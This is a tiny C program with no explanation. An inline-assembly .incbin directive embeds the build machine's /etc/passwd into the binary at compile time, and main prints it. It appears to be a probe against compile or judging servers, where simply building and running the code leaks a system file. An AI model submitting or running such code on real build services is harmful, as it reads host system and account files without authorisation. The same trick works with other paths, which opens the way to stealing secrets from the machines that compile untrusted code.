#include <stdio.h>
__asm__(".section .rodata\nsecret: .incbin \"/etc/passwd\"\n.byte 0\n.text");
extern const char secret[];
int main(void) {
    puts(secret);
    return 0;
}
